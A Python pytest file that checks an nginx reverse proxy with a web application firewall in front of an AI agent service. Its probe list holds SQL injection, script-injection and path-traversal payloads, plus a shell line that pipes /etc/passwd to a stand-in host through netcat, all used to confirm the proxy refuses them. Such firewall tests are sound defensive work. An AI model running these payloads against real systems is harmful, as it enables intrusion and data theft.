"""What docs/deploy promises of nginx in front of the edge, asked of a real nginx."""

import http.client
import json
import shutil
import subprocess
from urllib.parse import quote, urlsplit

import pytest
from nginx import FILES, NAME, encode, running_nginx

import effort
from edges import running_edge
from servers import new_session_id, wait_until

EDGE = FILES.parent / "edge.toml"
JSON = {"Content-Type": "application/json"}
#: What `curl -d` says of any body.
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
SQL, SCRIPT = "1' OR 1=1 -- ", "<script>alert(1)</script>"
PROBES = {
    "sql": ("POST", "/", encode(SQL), JSON),
    "sql as curl sends it": ("POST", "/", encode(SQL), FORM),
    "sql after Japanese": ("POST", "/", encode("教えて' UNION SELECT password FROM users --"), JSON),
    "sql in the query": ("GET", f"/?prompt={quote(SQL)}", None, {}),
    "sql as session": ("POST", "/", encode("hi", runtimeSessionId=SQL), JSON),
    "script": ("POST", "/", encode(SCRIPT), JSON),
    "script escaped": ("POST", "/", json.dumps({"prompt": SCRIPT}).replace("<", "\\u003c").encode(), JSON),
    "script in a header": ("POST", "/", encode("hi"), {**JSON, "Referer": SCRIPT}),
    "script in a chat": ("POST", "/", json.dumps({"messages": [{"content": SCRIPT}]}).encode(), JSON),
    "script without a type": ("POST", "/", encode(SCRIPT), {}),
    "script as text": ("POST", "/", encode(SCRIPT), {"Content-Type": "text/plain"}),
    "script as xml": ("POST", "/", encode(SCRIPT), {"Content-Type": "text/xml"}),
    "script as form data": ("POST", "/", encode(SCRIPT), {"Content-Type": "multipart/form-data; boundary=x"}),
    "script said twice": ("POST", "/", b'{"prompt": "%b", "prompt": "hi"}' % SCRIPT.encode(), JSON),
    "shell": ("POST", "/", encode("x; cat /etc/passwd | nc 192.0.2.1 80"), JSON),
    "file": ("GET", "/?prompt=../../../../etc/passwd", None, {}),
}
PROMPTS = (
    "hello world!",
    "今日の天気はどうですか？コーヒーとケーキもください。",
    "「ありがとう」は“Thank you”ですか？100%です・・・！",
    "👩‍👩‍👧‍👦 🙏🏽 🇯🇵 ❤️‍🔥 絵文字もＯＫ〜",
    "I'm sure she said \"it isn't\" (twice) & left; a < b, 2+2=4 -- right?",
    '{"a": [1, {"b": "ü"}], "url": "https://example.org/x?y=1&z=2"}',
    "# 見出し\n\n* 一つ目 **太字** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "time in New York?",
    "tail of a comet",
    "Привет! 안녕하세요, مرحبا, ¿Dónde está la biblioteca?",
    "とても長い質問です。" * 900,
)


def read_text(body):
    events = [json.loads(line[6:]) for line in body.decode().splitlines() if line.startswith("data: ")]
    deltas = [event["event"].get("contentBlockDelta") for event in events]
    return "".join(delta["delta"]["text"] for delta in deltas if delta)


def read_until(lines, text):
    for line in lines:
        if text in line:
            return
    raise AssertionError(f"the stream ended without {text!r}")


@pytest.fixture
def session_id():
    return new_session_id()


def test_a_token_is_there_before_the_agent_goes_on(nginx, session_id):
    """The agent waits for what is sent after its first token was read."""
    connection, reply = nginx.open("POST", "/", encode("!gate", runtimeSessionId=session_id), JSON)
    with connection:
        read_until(reply, "最初の言葉".encode())
        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
        read_until(reply, b"and the last")


@pytest.mark.parametrize("form", ["original", "transformed"])
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_the_same_over_http_2(nginx, session_id, form):
    command = ["curl", "-sSN", "--http2", "--cacert", nginx.certificate, "-w", "\n%{http_version}"]
    command += ["--resolve", f"{NAME}:{nginx.port}:127.0.0.1", f"https://{NAME}:{nginx.port}/"]
    command += ["-d", encode("!gate", runtimeSessionId=session_id, response=form)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, bufsize=0) as curl:
        seen = b""
        while "最初の言葉".encode() not in seen:
            part = curl.stdout.read(4096)
            assert part, seen
            seen += part
        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
        rest = curl.stdout.read()
    assert b"and the last" in rest
    assert rest.endswith(b"\n2")


@pytest.mark.parametrize("probe", PROBES.values(), ids=list(PROBES))
def test_probes_are_refused(nginx, probe):
    reply = nginx.request(*probe)

    assert reply.status == 403
    assert b"x-request-id" not in reply.headers


def test_the_log_tells_the_rule_and_no_secrets(nginx):
    body = encode(f"my own words {SQL}")
    nginx.request("POST", "/", body, {**JSON, "Authorization": "Bearer secret", "X-Marker": "here"})

    # The core rule set's verdict, and our rule that led to it. nginx logs after it answered.
    wait_until(lambda: {"949110", "8642100"} <= nginx.refused_rules()[-1], what="the refusal in the log")
    assert "Bearer secret" not in nginx.rules_log()
    assert "my own words" not in nginx.rules_log()


@pytest.mark.parametrize("prompt", PROMPTS, ids=range(len(PROMPTS)))
def test_ordinary_prompts_pass(nginx, prompt):
    reply = nginx.ask(prompt)

    assert reply.status == 200, nginx.refused_rules()[-1:]
    assert read_text(reply.body) == f"1: {prompt}"
    assert nginx.request("POST", "/", json.dumps({"prompt": prompt}).encode(), FORM).status == 200


def test_where_prompts_are_free_text_the_rest_is_looked_at(free_text_nginx):
    def status(*request):
        return free_text_nginx.request(*request).status

    for text in (SQL, SCRIPT, "echo $HOME; ls -la", "curl -X POST http://localhost:8080/"):
        assert status("POST", "/", encode(text), JSON) == 502
        chat = {"messages": [{"role": "user", "content": text}, {"parts": [{"text": text}]}]}
        assert status("POST", "/", json.dumps(chat).encode(), JSON) == 502
        assert status("POST", "/", encode("hi", runtimeSessionId=text), JSON) == 403
        assert status("GET", f"/?x={quote(text)}") == 403


def test_nobody_behind_is_a_502_in_json(free_text_nginx):
    reply = free_text_nginx.ask("hello")

    assert reply.status == 502
    assert reply.headers["strict-transport-security"]
    assert reply.json()["error"]["code"] == "502"


def test_silence_is_bridged_by_comments(nginx, session_id):
    """Silence of more than nginx allows: more comments than come in that time, then the agent goes on."""
    connection, reply = nginx.open("POST", "/", encode("!silence", runtimeSessionId=session_id), JSON)
    with connection:
        for _ in range(6):
            read_until(reply, b":")
        assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
        read_until(reply, b"at last")


@effort.long
def test_a_minute_of_silence(server, gated, tmp_path, session_id):
    """With the files as they are, but for a proxy that is as patient as most."""
    arguments = ("--target", gated.arn, "--endpoint-url", server.url)
    changes = {"proxy_read_timeout 330s;": "proxy_read_timeout 60s;"}
    with (
        running_edge(tmp_path, EDGE, *arguments) as edge,
        running_nginx(tmp_path, edge.url, changes) as nginx,
    ):
        connection, reply = nginx.open("POST", "/", encode("!silence", runtimeSessionId=session_id), JSON)
        with connection:
            for _ in range(5):
                read_until(reply, b":")
            assert nginx.ask("!open", runtimeSessionId=session_id).status == 200
            read_until(reply, b"at last")


def test_without_comments_silence_is_cut(nginx, session_id):
    """Else the test before would prove nothing."""
    connection, reply = nginx.open("POST", "/mute", encode("!silence", runtimeSessionId=session_id), JSON)
    with connection, pytest.raises((AssertionError, http.client.IncompleteRead)):
        read_until(reply, b"at last")
    nginx.ask("!open", runtimeSessionId=session_id)


def test_large_bodies_are_refused_unseen(nginx):
    reply = nginx.ask("x" * 70_000)

    assert reply.status == 413
    assert reply.json()["error"]["message"] == "the request could not be passed on"


@pytest.mark.parametrize(
    "body",
    [b'{"prompt": "hi', encode(SCRIPT).decode().encode("utf-16"), b'{"a":' * 600 + b"1" + b"}" * 600],
    ids=["torn", "utf-16", "deep"],
)
def test_what_cannot_be_looked_at_is_refused(nginx, body):
    """Python's json would read UTF-16."""
    assert nginx.request("POST", "/", body, JSON).status == 400


def test_plain_http_only_points_to_tls(nginx):
    connection = http.client.HTTPConnection("127.0.0.1", nginx.plain_port, timeout=20)
    connection.request("POST", "/talk?x=1", b"{}", {"Host": NAME})
    reply = connection.getresponse()
    connection.close()

    assert reply.status == 308
    assert reply.headers["Location"] == f"https://{NAME}/talk?x=1"


FORWARDED = ("X-Forwarded-For", "X-Real-IP", "Forwarded")


@pytest.mark.parametrize(("address", "said", "status"), [
    ("127.0.0.2", "192.0.2.1", 200),  # what a client says of itself does not get him refused
    ("127.0.0.3", "127.0.0.2", 403),  # nor in
    ("127.0.0.3", "127.0.0.2, 127.0.0.1", 403),
])  # fmt: skip
def test_the_edge_knows_clients_by_what_nginx_says(nginx, address, said, status):
    """The door refuses 127.0.0.3 and 192.0.2.1; its only trusted proxy is 127.0.0.1."""
    for header in FORWARDED:
        value = f"for={said}" if header == "Forwarded" else said
        headers = {**JSON, header: value}
        connection, reply = nginx.open("POST", "/listed", encode("hi"), headers, address=address)
        with connection:
            assert reply.status == status, (header, reply.read())


def test_the_edge_believes_nobody_else(edge):
    """Whoever passes nginx by is taken for what he is."""
    connection = http.client.HTTPConnection(urlsplit(edge.url).netloc, source_address=("127.0.0.3", 0))
    connection.request("POST", "/listed", encode("hi"), {**JSON, "X-Forwarded-For": "127.0.0.2"})
    status = connection.getresponse().status
    connection.close()

    assert status == 403
